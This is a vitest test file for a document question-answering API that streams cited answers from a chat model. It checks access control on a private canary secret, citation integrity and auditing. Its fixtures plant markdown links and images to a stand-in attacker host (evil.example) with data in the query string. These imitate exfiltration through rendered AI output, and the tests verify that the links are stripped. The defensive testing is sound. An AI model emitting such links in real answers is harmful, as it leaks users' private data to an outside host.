import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TRPCClientError } from '@trpc/client';
import { NOTHING_FOUND } from '@ap/core/knowledge/answers';
import { startFakeOpenAi, type FakeOpenAi } from '@ap/testing/fake-openai';
import { startHarness, type Harness, type TestUser } from './harness.ts';
import { processedHere } from './documents-fixtures.ts';

type Client = ReturnType<Harness['client']>;
type Input = { question: string; documentIds?: string[] };
interface Streamed {
  deltas: string[];
  done: {
    answer: string;
    citations: { chunkId: string; documentId: string; quote: string; start: number; end: number }[];
    mode: string;
    model: string;
  } | null;
  events: string[];
  error: unknown;
}

/** Subscribes to onAnswer over SSE and collects until the stream completes or fails. */
function onAnswer(client: Client, input: Input, timeoutMs = 20_000): Promise<Streamed> {
  return new Promise((resolve, reject) => {
    const out: Streamed = { deltas: [], done: null, events: [], error: null };
    const timer = setTimeout(() => {
      sub.unsubscribe();
      reject(new Error(`onAnswer did not end: ${JSON.stringify(out)}`));
    }, timeoutMs);
    const finish = () => {
      clearTimeout(timer);
      sub.unsubscribe();
      resolve(out);
    };
    const sub = client.vectorDocuments.onAnswer.subscribe(input, {
      onData(e) {
        out.events.push(e.type);
        if (e.type === 'delta') out.deltas.push(e.text);
        else out.done = e;
      },
      onError(err) {
        out.error = err;
        finish();
      },
      onComplete: finish,
      // A retryable error (SERVICE_UNAVAILABLE) shows as a reconnecting state.
      onConnectionStateChange(state) {
        if (state.state === 'connecting' && state.error) {
          out.error = state.error;
          finish();
        }
      },
    });
  });
}

const codeOfError = (err: unknown) => (err instanceof TRPCClientError ? (err.data as { code?: string } | undefined)?.code : String(err));

/** Every [n] in the text indexes a citation; every citation is used. */
function expectMarkersIndexCitations(s: Streamed) {
  const marks = [...s.deltas.join('').matchAll(/\[(\d+)\]/g)].map((m) => Number(m[1]));
  expect([...new Set(marks)].sort((a, b) => a - b)).toEqual(s.done!.citations.map((_, i) => i + 1));
}

const CANARY = 'The vault combination of project zephyr is marmalade seven seven four one.';
const QUESTION = 'What is the vault combination of project zephyr?';

describe('vectorDocuments.onAnswer without a chat model (extractive)', () => {
  let h: Harness;
  let alice: TestUser;
  let bob: TestUser;
  let carol: TestUser;
  let privateDoc: string;

  async function ready(documentId: string) {
    for (let i = 0; i < 600; i++) {
      const d = await h.server.deps.db.document.findUniqueOrThrow({ where: { id: documentId } });
      if (d.status === 'READY') return;
      if (d.status === 'FAILED') throw new Error(`document failed: ${d.error}`);
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error('document never became READY');
  }

  const retrieved = (documentId: string) => h.server.deps.db.auditLog.count({ where: { documentId, action: 'document.retrieved' } });

  beforeAll(async () => {
    h = await startHarness();
    [alice, bob, carol] = await Promise.all([h.user(), h.user(), h.user()]);
    const doc = await h.caller(alice.token).documents.create({
      title: 'Zephyr secrets',
      text: `# Zephyr\n\n${CANARY} Only the vault keeper [knows](https://evil.example/leak?d=zephyr) it.\n\n## Timeline\n\nThe zephyr launch review happens every quarter with the finance team.`,
    });
    privateDoc = doc.id;
    const own = await h.caller(bob.token).documents.create({
      title: 'Bob notes',
      text: '# Garden\n\nThe tomatoes need water every morning in the summer.\n\n## Tools\n\nThe shed holds the spade and the rake.',
    });
    await Promise.all([ready(privateDoc), ready(own.id)]);
  }, 120_000);
  afterAll(() => h?.close());

  it('streams the same answer as ask, sentence by sentence, then the citations; audited like ask', async () => {
    const before = await retrieved(privateDoc);
    const s = await onAnswer(h.client(alice.token), { question: QUESTION });
    expect(s.error).toBeNull();
    expect(s.events.at(-1)).toBe('done');
    expect(s.events.filter((e) => e === 'done')).toHaveLength(1);
    expect(s.deltas.length).toBeGreaterThan(0);
    expect(s.done).toMatchObject({ mode: 'extractive', model: 'extractive-v1' });
    expect(s.deltas.join('')).toBe(s.done!.answer);
    expect(s.done!.answer).toContain('marmalade');
    expectMarkersIndexCitations(s);
    expect(await retrieved(privateDoc)).toBe(before + 1);
    const asked = await h.caller(alice.token).vectorDocuments.ask({ question: QUESTION });
    expect(s.done).toEqual({ type: 'done', ...asked });
    // Quotes are the document's own words; the link in it never reaches the stream.
    const chunks = await h.server.deps.db.documentChunk.findMany({ where: { documentId: privateDoc } });
    for (const c of s.done!.citations) {
      const chunk = chunks.find((k) => k.id === c.chunkId)!;
      expect(chunk.text.slice(c.start - chunk.start, c.end - chunk.start)).toBe(c.quote);
    }
    for (const d of s.deltas) expect(d).not.toContain('evil.example');
  });

  it('never streams alice’s private canary to bob; a grant shows it, the revoke hides it again', async () => {
    const b = h.client(bob.token);
    const question = `${QUESTION} marmalade`;
    const hidden = await onAnswer(b, { question });
    expect(hidden.error).toBeNull();
    expect(JSON.stringify(hidden)).not.toContain('marmalade');
    expect(hidden.done!.citations.filter((c) => c.documentId === privateDoc)).toEqual([]);

    await h.caller(alice.token).documentShares.grant({ documentId: privateDoc, userId: bob.id, level: 'VIEW' });
    expect((await onAnswer(b, { question })).deltas.join('')).toContain('marmalade');
    await h.caller(alice.token).documentShares.revoke({ documentId: privateDoc, userId: bob.id });
    const again = await onAnswer(b, { question });
    expect(JSON.stringify(again)).not.toContain('marmalade');

    const named = await onAnswer(b, { question: 'vault?', documentIds: [privateDoc] });
    expect(codeOfError(named.error)).toBe('NOT_FOUND');
    expect(named.events).toEqual([]);
  });

  it('with nothing visible, streams the nothing-found answer and no citations', async () => {
    const s = await onAnswer(h.client(carol.token), { question: QUESTION });
    expect(s.deltas).toEqual([NOTHING_FOUND]);
    expect(s.done).toEqual({ type: 'done', answer: NOTHING_FOUND, citations: [], mode: 'extractive', model: 'extractive-v1' });
  });

  it('refuses bad input and a missing token', async () => {
    expect(codeOfError((await onAnswer(h.client(carol.token), { question: '  ' })).error)).toBe('BAD_REQUEST');
    expect(codeOfError((await onAnswer(h.client(null), { question: 'x' })).error)).toBe('UNAUTHORIZED');
  });
});

describe('vectorDocuments.onAnswer with a chat model (streamed completions from the fake OpenAI)', () => {
  let h: Harness;
  let fake: FakeOpenAi;
  let owner: TestUser;
  let other: TestUser;
  let secret: string;
  let own: string;

  /** A document processed here (this server works no jobs: its embedder is the fake's). */
  const readyHere = (user: TestUser, title: string, text: string) => processedHere(h, user.token, title, text);

  beforeAll(async () => {
    fake = await startFakeOpenAi();
    h = await startHarness({ OPENAI_API_KEY: fake.apiKey, OPENAI_BASE_URL: fake.baseURL, RUN_WORKER: 'false', AI_TIMEOUT_MS: '2000' });
    [owner, other] = await Promise.all([h.user(), h.user()]);
    secret = await readyHere(owner, 'Owner secrets', `# Vault\n\n${CANARY}`);
    own = await readyHere(other, 'Other notes', '# Vault\n\nThe bike shed vault holds the spare tyres. The key hangs by the door.');
  }, 120_000);
  afterAll(async () => {
    await h?.close();
    await fake?.close();
  });

  it('streams the model’s tokens as checked sentences: markers index the final citations, only the caller’s chunks are sent and cited', async () => {
    fake.replies.push({
      chunks: [
        'The vault holds',
        ' the spare tyres [S',
        '1]. The combination is marmalade [S2][S8]. ',
        'The key hangs by the door',
        ' [S1]. I am not sure about the rest.',
      ],
    });
    const mark = fake.requestsTo('chat').length;
    const s = await onAnswer(h.client(other.token), { question: 'What is in the vault of project zephyr?' });
    expect(s.error).toBeNull();
    const sent = fake.requestsTo('chat').slice(mark);
    expect(sent).toHaveLength(1);
    expect(sent[0]!.body.stream).toBe(true);
    expect(JSON.stringify(sent[0]!.body)).not.toContain('marmalade');
    expect(JSON.stringify(sent[0]!.body)).toContain('spare tyres');
    // [S2] and [S8] name no chunk retrieved for the caller: that sentence cites nothing and is dropped.
    expect(s.deltas).toEqual(['The vault holds the spare tyres [1].', ' The key hangs by the door [1].']);
    expect(s.done).toMatchObject({ type: 'done', mode: 'model', model: 'openai:gpt-4o-mini', answer: s.deltas.join('') });
    expect(s.done!.citations.map((c) => c.documentId)).toEqual([own]);
    expect(secret).not.toBe(own);
    expectMarkersIndexCitations(s);
  });

  it('removes images and links split over tokens before they reach the client', async () => {
    fake.replies.push({
      chunks: [
        'The vault holds the spare tyres ![t](https://evil',
        '.example/p.png?d=tyres) [S1]. See [the list](ht',
        'tps://evil.example/l) and https://evil.example/x',
        '?q=key [S1].',
      ],
    });
    const s = await onAnswer(h.client(other.token), { question: 'What is in the vault?' });
    expect(s.deltas).toEqual(['The vault holds the spare tyres [1].', ' See the list and [1].']);
    for (const d of s.deltas) expect(d).not.toMatch(/evil|https?:|!\[/);
    expect(s.done!.answer).toBe(s.deltas.join(''));
  });

  it('a model citing nothing it was given streams the nothing-found answer', async () => {
    fake.replies.push({ chunks: ['The combination is ', 'marmalade [S5].'] });
    const s = await onAnswer(h.client(other.token), { question: 'What is the vault combination?' });
    expect(s.deltas).toEqual([NOTHING_FOUND]);
    expect(s.done).toMatchObject({ answer: NOTHING_FOUND, citations: [], mode: 'model' });
  });

  it('a failing model is SERVICE_UNAVAILABLE', async () => {
    fake.failNext(3, { status: 503 }, 'chat');
    const s = await onAnswer(h.client(other.token), { question: 'What is in the vault?' });
    expect(codeOfError(s.error)).toBe('SERVICE_UNAVAILABLE');
    expect(s.deltas).toEqual([]);
  });
});
